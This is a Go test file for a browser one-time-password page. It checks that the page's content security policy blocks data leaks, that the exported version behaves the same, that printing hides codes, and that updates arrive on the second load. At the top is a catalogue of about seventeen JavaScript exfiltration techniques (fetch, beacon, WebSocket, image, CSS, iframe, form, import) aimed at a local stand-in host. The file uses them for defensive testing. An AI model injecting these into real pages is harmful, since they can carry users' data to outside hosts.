package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"

	"evry.nl/tfa/cmd/internal/browser"
)

// leaks are ways in which a script sends something to another host.
var leaks = map[string]string{
	"fetch":       `fetch(there).catch(() => 0)`,
	"own_host":    `fetch("./leak").catch(() => 0)`,
	"beacon":      `navigator.sendBeacon(there, "x")`,
	"xhr":         `(() => { const x = new XMLHttpRequest(); x.open("GET", there); x.send() })()`,
	"websocket":   `new WebSocket(there.replace("http", "ws"))`,
	"eventsource": `new EventSource(there)`,
	"image":       `new Image().src = there`,
	"css":         `document.body.style.backgroundImage = "url(" + there + ")"`,
	"stylesheet":  `document.head.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: there}))`,
	"prefetch":    `document.head.append(Object.assign(document.createElement("link"), {rel: "prefetch", href: there}))`,
	"preload":     `document.head.append(Object.assign(document.createElement("link"), {rel: "preload", as: "image", href: there}))`,
	"frame":       `document.body.append(Object.assign(document.createElement("iframe"), {src: there}))`,
	"audio":       `document.body.append(Object.assign(document.createElement("audio"), {src: there, preload: "auto"}))`,
	"form":        `(() => { const f = Object.assign(document.createElement("form"), {action: there}); document.body.append(f); f.submit() })()`,
	"import":      `import(there).catch(() => 0)`,
	"html":        `document.body.innerHTML = "<img src=" + there + ">"`,
	"script":      `document.body.append(Object.assign(document.createElement("script"), {textContent: "fetch('" + there + "')"}))`,
}

// A script that gets into the page reaches no host: the policy stops it, and the
// browser says so. In the export the policy stands in the page alone.
func TestNothingGetsOut(t *testing.T) {
	var got atomic.Int64
	thief := answering(t, http.HandlerFunc(func(http.ResponseWriter, *http.Request) { got.Add(1) }), "127.0.0.1:0")
	for kind, h := range map[string]host{"served": serving(t, pages(t), "127.0.0.1:0"), "exported": exported(t)} {
		b := browser.Start(t, "")
		for name, script := range leaks {
			t.Run(kind+"/"+name, func(t *testing.T) {
				b.Open(h.address + "otp/")
				b.Sees("#setup")
				b.Complaints()
				stopped := browser.Eval[string](b, fmt.Sprintf(`new Promise((resolve) => {
					document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), {once: true});
					const there = %q;
					try { %s } catch (error) { resolve(String(error)) }
				})`, thief.address+"leak", script))
				if stopped == "" {
					t.Error("nothing stopped it")
				}
			})
		}
	}
	if n := got.Load(); n > 0 {
		t.Errorf("another host was asked %d times", n)
	}
}

// exported is the export behind a file server that knows nothing of it.
func exported(t testing.TB) host {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "www")
	must(t, export(pages(t), dir))
	return answering(t, http.FileServer(http.Dir(dir)), "127.0.0.1:0")
}

func TestTheExportBehavesTheSame(t *testing.T) {
	h := exported(t)
	b := browser.Start(t, "")
	b.Open(h.address + "otp/")
	setUp(b, rfcURI)
	showsCodeOf(t, b, rfcBase32)
	kept(b)
	noComplaints(t, b)
	b.Close()
	h.stop()
	b = browser.Start(t, b.Profile)
	b.Open(h.address + "otp/en.html")
	showsCodeOf(t, b, rfcBase32)
	b.Reads("These codes are in this browser only")
}

func TestPrintedPagesHideCodes(t *testing.T) {
	_, b := visiting(t)
	setUp(b, rfcURI)
	b.Sees(".code")
	_, err := chromedp.Call(b.Context(), emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Media: "print"})
	must(t, err)
	b.SeesNot(".code")
	b.SeesNot(".next-code")
	b.Reads("Codes worden niet afgedrukt.")
}

// A new version reaches who opens the page for the second time.
func TestAnUpdateIsThereAtTheSecondLoad(t *testing.T) {
	old := serving(t, pages(t), "127.0.0.1:0")
	b := browser.Start(t, "")
	b.Open(old.address + "otp/")
	setUp(b, rfcURI)
	b.Sees(".code")
	kept(b)
	old.stop()

	files := pages(t)
	version := strings.SplitN(string(files["otp/sw.js"]), "\n", 2)[0]
	files["otp/sw.js"] = []byte(strings.Replace(string(files["otp/sw.js"]), version, `const version = "next";`, 1))
	files["otp/index.html"] = []byte(strings.Replace(string(files["otp/index.html"]), "Inlogcode in de browser</h1>", "Nieuw</h1>", 1))
	fresh := serving(t, files, strings.Trim(strings.TrimPrefix(old.address, "http://"), "/"))
	b.Open(fresh.address + "otp/")
	b.Until(`caches.keys().then((names) => String(names) === "tfa-otp next")`)
	b.Open(fresh.address + "otp/")
	b.Reads("Nieuw")
	showsCodeOf(t, b, rfcBase32)
}

// counter counts what is sent.
type counter struct {
	http.ResponseWriter
	sent *atomic.Int64
}

func (c counter) Write(b []byte) (int, error) {
	c.sent.Add(int64(len(b)))
	return c.ResponseWriter.Write(b)
}

// Everything that a first visit fetches, the page and what is kept of it, and
// without the reader of pictures.
func TestAFirstVisitIsSmall(t *testing.T) {
	var sent atomic.Int64
	var mu sync.Mutex
	var asked []string
	inner := newServer(pages(t), false).Handler
	h := answering(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		asked = append(asked, r.URL.Path)
		mu.Unlock()
		inner.ServeHTTP(counter{w, &sent}, r)
	}), "127.0.0.1:0")
	b := browser.Start(t, "")
	b.Open(h.address + "otp/")
	kept(b)
	h.stop()
	if n := sent.Load(); n > 60_000 || n < 10_000 || slices.Contains(asked, "/otp/qr.js") {
		t.Errorf("%d bytes were sent, for %q", n, asked)
	}
	t.Logf("%d bytes", sent.Load())
}

func TestTextsAreAllInUse(t *testing.T) {
	files := pages(t)
	var code strings.Builder
	for name, content := range files {
		if strings.HasSuffix(name, ".js") && !strings.HasSuffix(name, "qr.js") {
			code.Write(content)
		}
	}
	_, list, _ := strings.Cut(string(files["otp/index.html"]), `id="texts">`)
	list, _, _ = strings.Cut(list, "</script>")
	var texts map[string]string
	must(t, json.Unmarshal([]byte(list), &texts))
	for key := range texts {
		name := strings.TrimSuffix(strings.TrimPrefix(key, "refused."), "_unknown")
		if !strings.Contains(code.String(), `"`+name+`"`) {
			t.Errorf("no script says %s", key)
		}
	}
}
